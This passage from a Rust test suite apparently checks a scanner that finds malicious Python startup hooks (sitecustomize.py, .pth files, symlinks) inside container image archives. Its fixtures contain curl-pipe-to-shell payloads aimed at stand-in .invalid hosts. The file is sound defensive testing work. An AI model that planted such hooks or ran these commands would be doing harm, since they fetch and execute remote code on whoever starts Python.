/// the condition. Without the variable it would be a file nothing imports.
#[test]
fn an_image_env_pythonpath_puts_its_directory_on_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let hook = b"import os\nos.system('curl -s http://x.invalid | sh')\n";
    let layer = tar_of(&[
        ("usr/local/lib/python3.12/os.py", b"# os\n"),
        ("usr/local/lib/python3.12/site-packages/ok.py", b"x = 1\n"),
        ("app/sitecustomize.py", hook),
    ]);
    let image = |env: &[&str]| {
        let config = serde_json::json!({"config": {"Env": env}, "history": []});
        let config = serde_json::to_vec(&config).unwrap();
        let manifest = serde_json::json!([{
            "Config": "c.json", "RepoTags": ["envimg:1"], "Layers": ["l/layer.tar"],
        }]);
        let manifest = serde_json::to_vec(&manifest).unwrap();
        tar_of(&[
            ("manifest.json", &manifest),
            ("c.json", &config),
            ("l/layer.tar", &layer),
        ])
    };
    let with = dir.path().join("with.tar");
    std::fs::write(&with, image(&["PATH=/usr/bin", "PYTHONPATH=/app"])).unwrap();
    let (json, out) = scan_json(&with, &[]);
    let f = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "CUS001")
        .unwrap_or_else(|| panic!("{json:#}"));
    assert_eq!(f["severity"], "high", "{f:#}");
    assert!(
        f["notes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n.as_str().unwrap().contains("PYTHONPATH=/app")),
        "{f:#}"
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let without = dir.path().join("without.tar");
    std::fs::write(&without, image(&["PATH=/usr/bin"])).unwrap();
    let (json, _) = scan_json(&without, &[]);
    assert!(
        !json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "CUS001"),
        "{json:#}"
    );
}

#[test]
fn a_root_filesystem_tar_past_4_gib_is_streamed_and_the_hook_after_its_model_found() {
    use std::io::{Seek, Write};
    // `docker export` of an ML image: os-release, a 4.5 GiB weights file (a hole on disk), a hook
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("export.tar");
    let mut f = std::fs::File::create(&path).unwrap();
    let member = |f: &mut std::fs::File, name: &str, size: u64, data: Option<&[u8]>| {
        let mut h = tar::Header::new_gnu();
        h.set_path(name).unwrap();
        h.set_size(size);
        h.set_mode(0o644);
        h.set_cksum();
        f.write_all(h.as_bytes()).unwrap();
        match data {
            Some(d) => f.write_all(d).unwrap(),
            None => {
                f.seek(std::io::SeekFrom::Current(size as i64)).unwrap();
            }
        }
        f.write_all(&vec![0; (512 - size % 512) as usize % 512])
            .unwrap();
    };
    member(&mut f, "etc/os-release", 10, Some(b"ID=debian\n"));
    member(&mut f, "opt/model/weights.bin", 9 << 29, None);
    let hook = b"import os; os.system('curl -s https://z.invalid | sh')\n";
    let at = "usr/lib/python3/dist-packages/after.pth";
    member(&mut f, at, hook.len() as u64, Some(hook));
    f.write_all(&[0; 1024]).unwrap();
    drop(f);
    let (json, out) = scan_json(&path, &[]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let want = format!("export.tar › root filesystem › layer 1 › {at}");
    assert!(
        found(&json, dir.path())
            .iter()
            .any(|(r, s, p)| r == "PTH001" && s == "high" && p == &format!("{want}:1")),
        "{json:#}"
    );
}

#[test]
fn a_docker_save_compressed_whole_past_any_sdist_ratio_is_still_an_image() {
    // useradd's sparse lastlog: 300 MB of zeros in a layer, the hook after it; the whole
    // `docker save | zstd` compresses far past the ratio an sdist may have
    let dir = tempfile::tempdir().unwrap();
    let zeros = vec![0u8; 300 << 20];
    let hook: &[u8] = b"import os; os.system('curl -s https://z.invalid | sh')\n";
    let layer = tar_of(&[
        ("var/log/lastlog", &zeros),
        ("usr/local/lib/python3.12/site-packages/after.pth", hook),
    ]);
    let config = br#"{"history":[{"created_by":"RUN useradd -u 999999 app"}]}"#;
    let manifest = format!(
        r#"[{{"Config":"blobs/sha256/{}","RepoTags":["app:1"],"Layers":["blobs/sha256/{}"]}}]"#,
        sha(config),
        sha(&layer)
    );
    let save = tar_of(&[
        (&format!("blobs/sha256/{}", sha(&layer)), &layer),
        (&format!("blobs/sha256/{}", sha(config)), config),
        ("manifest.json", manifest.as_bytes()),
    ]);
    let zst =
        ruzstd::encoding::compress_to_vec(&save[..], ruzstd::encoding::CompressionLevel::Fastest);
    assert!(
        save.len() / zst.len() > 1000,
        "{} → {}",
        save.len(),
        zst.len()
    );
    std::fs::write(dir.path().join("app.tar.zst"), zst).unwrap();
    let (json, out) = scan_json(dir.path(), &[]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let at = format!(
        "app.tar.zst › app:1 › layer 1 sha256:{} › usr/local/lib/python3.12/site-packages/after.pth:1",
        &sha(&layer)[..12]
    );
    assert!(
        found(&json, dir.path())
            .iter()
            .any(|(r, _, p)| r == "PTH001" && p == &at),
        "{json:#}"
    );
}

#[test]
fn an_image_hook_reached_through_a_link_or_a_path_line_is_judged_by_what_it_holds() {
    // a docker save small enough to hold: its layers cannot be read again, so they keep what a
    // hook may reach — a `.pth` that is a symlink to a file outside any site directory, and a
    // path line to a directory whose module a later line imports
    let pay: &[u8] = b"import os\nos.system('curl -s https://z.invalid | sh')\n";
    let l1 = tar_of(&[
        ("usr/local/lib/python3.12/os.py", b"#\n"),
        ("usr/share/doc/changelog", pay),
        ("opt/lib/amod.py", pay),
    ]);
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::Symlink);
    h.set_size(0);
    b.append_link(
        &mut h,
        "usr/local/lib/python3.12/site-packages/zz.pth",
        "/usr/share/doc/changelog",
    )
    .unwrap();
    let q: &[u8] = b"/opt/lib\nimport amod\n";
    let mut h = tar::Header::new_gnu();
    h.set_size(q.len() as u64);
    h.set_mode(0o644);
    b.append_data(&mut h, "usr/local/lib/python3.12/site-packages/q.pth", q)
        .unwrap();
    let l2 = b.into_inner().unwrap();
    let config: &[u8] = br#"{"history":[{"created_by":"a"},{"created_by":"b"}]}"#;
    let manifest = format!(
        r#"[{{"Config":"blobs/sha256/{}","RepoTags":["x:1"],"Layers":["blobs/sha256/{}","blobs/sha256/{}"]}}]"#,
        sha(config),
        sha(&l1),
        sha(&l2)
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("links.tar"),
        tar_of(&[
            (&format!("blobs/sha256/{}", sha(&l1)), &l1),
            (&format!("blobs/sha256/{}", sha(&l2)), &l2),
            (&format!("blobs/sha256/{}", sha(config)), config),
            ("manifest.json", manifest.as_bytes()),
        ]),
    )
    .unwrap();
    let (json, out) = scan_json(&dir.path().join("links.tar"), &[]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(
        !stderr(&out).contains("content not kept"),
        "{}",
        stderr(&out)
    );
    let f = found(&json, dir.path());
    let high_on = |end: &str| f.iter().any(|(_, s, p)| s == "high" && p.ends_with(end));
    assert!(high_on("site-packages/zz.pth:2"), "{f:#?}");
    assert!(high_on("opt/lib/amod.py:2"), "{f:#?}");
}
